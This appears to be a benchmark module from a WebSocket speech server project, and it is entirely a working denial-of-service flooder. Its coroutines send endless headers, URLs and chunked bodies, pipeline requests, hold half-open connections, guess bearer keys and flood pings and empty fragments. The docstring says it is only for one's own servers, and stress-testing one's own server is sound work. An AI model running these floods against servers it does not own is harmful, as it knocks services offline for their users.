"""An attacker, as a program: ``python -m benchmarks.flooder FLOOD HOST PORT KEY SECONDS``.

Each flood is a coroutine over raw sockets; it goes on until it is cancelled, and begins again where
the server parts with it. Only against servers of your own.
"""

import asyncio
import contextlib
import os
import sys
from collections.abc import Awaitable, Callable
from typing import Final, TypeAlias

Flood: TypeAlias = Callable[["Target"], Awaitable[None]]

_MASK: Final = b"\0\0\0\0"
_CHUNK: Final = 64 * 1024


class Target:
    """What is attacked.

    Args:
        host: Its address.
        port: Its port.
        key: A key of an honest caller; floods that are said to have none do not use it.
    """

    def __init__(self, host: str, port: int, key: str) -> None:
        self.host, self.port, self.key = host, port, key
        self.n_bytes = 0
        self.n_connections = 0

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a TCP connection."""
        streams = await asyncio.open_connection(self.host, self.port)
        self.n_connections += 1
        return streams

    async def write(self, writer: asyncio.StreamWriter, data: bytes) -> None:
        """Send, and wait until little of it is unsent."""
        writer.write(data)
        await writer.drain()
        self.n_bytes += len(data)

    async def upgrade(
        self, key: str | None = None
    ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a WebSocket."""
        reader, writer = await self.connect()
        await self.write(writer, upgrade_request(self.key if key is None else key))
        await reader.readuntil(b"\r\n\r\n")
        return reader, writer


def upgrade_request(key: str) -> bytes:
    """Return the request for a WebSocket."""
    return (
        "GET /ws?speaker=tone&audioFormat=pcm&samplingRate=8000 HTTP/1.1\r\nHost: localhost\r\n"
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nAuthorization: Bearer {key}\r\n\r\n"
    ).encode()


def frame(opcode: int, payload: bytes = b"", *, is_last: bool = True) -> bytes:
    """Return a masked frame of at most 125 bytes."""
    return bytes([(0x80 if is_last else 0) | opcode, 0x80 | len(payload)]) + _MASK + payload


async def _swallow(reader: asyncio.StreamReader) -> None:
    while await reader.read(_CHUNK):
        pass


async def _pour(target: Target, begin: bytes, rest: bytes) -> None:
    """Begin a request and go on without end; read what is answered."""
    reader, writer = await target.connect()
    swallowing = asyncio.create_task(_swallow(reader))
    try:
        await target.write(writer, begin)
        while not swallowing.done():
            await target.write(writer, rest)
    finally:
        swallowing.cancel()
        writer.close()


_HEAD: Final = b"GET / HTTP/1.1\r\nHost: localhost\r\n"


async def endless_headers(target: Target) -> None:
    """Headers without end."""
    await _pour(target, _HEAD, b"X-Aaaaaaa: bbbbbbb\r\n" * (_CHUNK // 20))


async def endless_header(target: Target) -> None:
    """One header without end."""
    await _pour(target, _HEAD + b"X: ", b"a" * _CHUNK)


async def endless_url(target: Target) -> None:
    """A URL without end."""
    await _pour(target, b"GET /", b"a" * _CHUNK)


async def second_head(target: Target) -> None:
    """Headers without end, in the second request of a connection."""
    begin = _HEAD + b"\r\n" + _HEAD
    await _pour(target, begin, b"X-Aaaaaaa: bbbbbbb\r\n" * (_CHUNK // 20))


async def endless_body(target: Target) -> None:
    """A body without end, in chunks of a byte."""
    begin = b"POST /voices HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    await _pour(target, begin, b"1\r\na\r\n" * (_CHUNK // 6))


async def pipelined(target: Target) -> None:
    """``GET /voices`` by the thousand, without waiting for answers."""
    request = b"GET /voices HTTP/1.1\r\nHost: localhost\r\n\r\n"
    await _pour(target, b"", request * (_CHUNK // len(request)))


async def half_requests(target: Target) -> None:
    """Connections that begin a request, by the thousand."""
    held = []
    try:
        for _ in range(1200):
            reader, writer = await target.connect()
            held.append((reader, writer))
            await target.write(writer, _HEAD)
        await asyncio.sleep(1)
    finally:
        for _reader, writer in held:
            writer.close()


async def connections(target: Target) -> None:
    """Connections that are opened and broken off."""
    for _ in range(200):
        _reader, writer = await target.connect()
        writer.transport.abort()


async def wrong_keys(target: Target) -> None:
    """Guesses, one connection each, a few at a time."""

    async def guess() -> None:
        _reader, writer = await target.upgrade("hf_" + os.urandom(24).hex())
        writer.close()

    await asyncio.gather(*(guess() for _ in range(16)))


async def pings_unread(target: Target) -> None:
    """Pings of a caller who reads no pongs."""
    _reader, writer = await target.upgrade()
    try:
        while True:
            await target.write(writer, frame(0x9, b"x" * 16) * (_CHUNK // 22))
    finally:
        writer.close()


async def pings_read(target: Target) -> None:
    """Pings of a caller who reads."""
    await _flood(target, frame(0x9, b"x" * 4) * (_CHUNK // 10))


async def letters(target: Target) -> None:
    """Messages of a letter, cleared before they are too much."""
    letters = frame(0x1, b"a") * 2000 + frame(0x1, b"<CLEAR>")
    await _flood(target, letters)


async def empty_fragments(target: Target) -> None:
    """A message in empty fragments without end."""
    reader, writer = await target.upgrade()
    swallowing = asyncio.create_task(_swallow(reader))
    try:
        await target.write(writer, frame(0x1, b"a", is_last=False))
        while not swallowing.done():
            await target.write(writer, frame(0x0, is_last=False) * (_CHUNK // 6))
    finally:
        swallowing.cancel()
        writer.close()


async def _flood(target: Target, frames: bytes) -> None:
    reader, writer = await target.upgrade()
    swallowing = asyncio.create_task(_swallow(reader))
    try:
        while not swallowing.done():
            await target.write(writer, frames)
    finally:
        swallowing.cancel()
        writer.close()


WITHOUT_KEY: Final[tuple[Flood, ...]] = (
    endless_headers,
    endless_header,
    endless_url,
    second_head,
    endless_body,
    pipelined,
    half_requests,
    connections,
    wrong_keys,
)
WITH_KEY: Final[tuple[Flood, ...]] = (pings_unread, pings_read, letters, empty_fragments)
FLOODS: Final = {flood.__name__: flood for flood in (*WITHOUT_KEY, *WITH_KEY)}


async def attack(flood: Flood, target: Target, seconds: float) -> None:
    """Flood for so long."""
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            while True:
                with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                    await flood(target)
                await asyncio.sleep(0)


def main(arguments: list[str]) -> None:
    """Attack as told; print what was sent."""
    name, host, port, key, seconds = arguments
    target = Target(host, int(port), key)
    asyncio.run(attack(FLOODS[name], target, float(seconds)))
    print(f"{target.n_bytes} bytes, {target.n_connections} connections")


if __name__ == "__main__":
    main(sys.argv[1:])
